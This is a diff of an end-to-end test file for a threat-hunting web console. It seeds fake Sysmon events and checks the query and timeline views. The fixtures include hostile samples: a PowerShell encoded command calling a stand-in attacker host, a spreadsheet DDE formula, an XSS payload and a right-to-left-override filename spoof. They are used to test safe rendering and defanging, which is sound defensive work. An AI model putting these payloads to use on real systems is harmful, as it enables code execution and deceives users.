@@ -1,7 +1,7 @@
 import { readFileSync } from 'node:fs';
 import type { Browser, BrowserContext, Download, Page } from 'playwright-core';
 import { afterAll, beforeAll, describe, expect, it } from 'vitest';
-import { call, enter, type Incident, type Listed, launch, open, seriousFindings, settled, type Watch } from './browser';
+import { call, enter, type Incident, launch, open, seriousFindings, settled, type Watch } from './browser';
 
 // Needs the account that portal.test.ts sets up. Queries bring their own rows
 // where they can; what is asked of tables is ingested below.
@@ -10,11 +10,20 @@ let browser: Browser;
 let context: BrowserContext;
 let page: Page;
 let watch: Watch;
+/** The incident that the test of linking makes. */
+let linked = 0;
 
 beforeAll(async () => {
   browser = await launch();
   ({ context, page, watch } = await open(browser));
   await enter(context);
+  const events = [
+    process(14, 'ws1.hunt.example', 'cmd.exe', 'cmd.exe /c whoami'),
+    process(13, 'ws1.hunt.example', 'powershell.exe', 'powershell.exe -enc SQBFAFgA https://evil.example/x'),
+    process(5, 'ws2.hunt.example', 'cmd.exe', 'cmd.exe /c hostname'),
+  ];
+  const receipt = await call<{ received: number; stored: number }>(context, 'POST', '/telemetry/auto', events);
+  expect([receipt.received, receipt.stored]).toEqual([3, 3]);
 });
 
 afterAll(async () => {
@@ -38,11 +47,32 @@ async function run(query: string): Promise<void> {
   await page.keyboard.press('Shift+Enter');
 }
 
+const minute = 60_000;
+const ago = (minutes: number): string => new Date(Date.now() - minutes * minute).toISOString();
+
+/** A process that Sysmon saw start. */
+const process = (minutes: number, host: string, image: string, line: string) => ({
+  '@timestamp': ago(minutes),
+  EventID: 1,
+  Channel: 'Microsoft-Windows-Sysmon/Operational',
+  SourceName: 'Microsoft-Windows-Sysmon',
+  Hostname: host,
+  UtcTime: ago(minutes).replace('T', ' ').replace('Z', ''),
+  ProcessGuid: '{0197231e-55fb-5f5c-5a04-000000000800}',
+  ProcessId: String(4_000 + minutes),
+  Image: `C:\\Windows\\System32\\${image}`,
+  CommandLine: line,
+  User: 'HUNT\\ada',
+  ParentImage: 'C:\\Windows\\explorer.exe',
+  ParentProcessId: '812',
+  Hashes: 'SHA1=08A2C4D6E8F0123456789ABCDEF0123456789ABC',
+});
+
 /** Three rows with what attackers write, and two devices. */
 const hostile = `datatable(Timestamp:datetime, DeviceName:string, AccountUpn:string, FileName:string, Url:string, Count:long, Bag:dynamic) [
-  datetime(2026-11-24T08:14:09.5Z), "ws1.hunt.example", "ada@hunt.example", "=cmd|'/c calc'!A1", "https://evil.example/a", -5, dynamic({"deep": {"list": [1, 2, 3]}}),
-  datetime(2026-11-24T08:14:10Z), "ws1.hunt.example", "ada@hunt.example", "<img src=x onerror=alert(1)>", "http://evil.example/b", 7, dynamic(null),
-  datetime(2026-11-24T08:14:11Z), "ws2.hunt.example", "bo@hunt.example", "invoice\\u202efdp.exe", "", 12, dynamic([1])
+  datetime(${ago(12)}), "ws1.hunt.example", "ada@hunt.example", "=cmd|'/c calc'!A1", "https://evil.example/a", -5, dynamic({"deep": {"list": [1, 2, 3]}}),
+  datetime(${ago(11)}), "ws1.hunt.example", "ada@hunt.example", "<img src=x onerror=alert(1)>", "http://evil.example/b", 7, dynamic(null),
+  datetime(${ago(10)}), "ws2.hunt.example", "bo@hunt.example", "invoice\\u202efdp.exe", "", 12, dynamic([1])
 ]`;
 
 describe('writing a query', () => {
@@ -266,6 +296,7 @@ describe('what comes of a result', () => {
     const incident = await call<Incident>(context, 'GET', `/incidents/${id}`);
     expect(incident.name).toBe('Odd files by hunting');
     expect(incident.tally.alerts).toBe(2);
+    linked = id;
   });
 });
 
@@ -317,10 +348,9 @@ describe('keeping queries', () => {
 
 describe('go hunt', () => {
   it('leads from a node of the graph to a query that has run', async () => {
-    const list = await call<Listed<Incident>>(context, 'GET', '/incidents?status=active&status=inProgress&sort=priority&limit=1');
-    await page.goto(`/incidents/${list.items[0]?.id}`);
+    await page.goto(`/incidents/${linked}`);
     await settled(page);
-    await page.locator('g[data-node][aria-label^="Device"]').first().click();
+    await page.locator('g[data-node][aria-label*="ws1"]').first().click();
     const pane = page.getByRole('complementary', { name: 'Entity' });
     await pane.getByRole('button', { name: 'Go hunt' }).first().click();
     await page.getByRole('menuitem', { name: 'Processes' }).waitFor();
@@ -328,7 +358,27 @@ describe('go hunt', () => {
     await page.getByRole('menuitem', { name: 'Processes' }).click();
     await page.waitForURL('**/hunting?*');
     await expect.poll(() => editor().innerText()).toContain('DeviceProcessEvents');
-    await page.locator('[data-rows], :text("No rows")').first().waitFor();
+    await expect.poll(() => rows().count()).toBe(2);
+    await page.getByRole('grid', { name: 'Results' }).getByText('cmd.exe /c whoami').first().waitFor();
+  });
+
+  it('leads to the timeline of an entity', async () => {
+    await page.goto(`/incidents/${linked}`);
+    await settled(page);
+    await page.locator('g[data-node][aria-label*="ws1"]').first().click();
+    await page.getByRole('complementary', { name: 'Entity' }).getByRole('button', { name: 'Go hunt' }).first().click();
+    await page.getByRole('menuitem', { name: 'Timeline of its events' }).click();
+    await page.waitForURL('**/timeline?at=*');
+    await page.getByText('cmd.exe /c whoami').first().waitFor();
+    await page.getByText('hxxps[://]evil[.]example/x').first().waitFor();
+    expect(await page.locator('[data-row]').count()).toBe(2);
+    expect(await seriousFindings(page)).toEqual([]);
+    await page.locator('[data-row]').first().click();
+    await page.getByRole('complementary', { name: 'Record' }).getByText('ProcessCommandLine').waitFor();
+    await page.getByRole('button', { name: '30 min either side' }).click();
+    await page.getByRole('link', { name: 'Open as a query' }).click();
+    await page.waitForURL('**/hunting?*');
+    await expect.poll(() => editor().innerText()).toContain('DeviceProcessEvents');
   });
 
   it('never runs what a plain link brings', async () => {
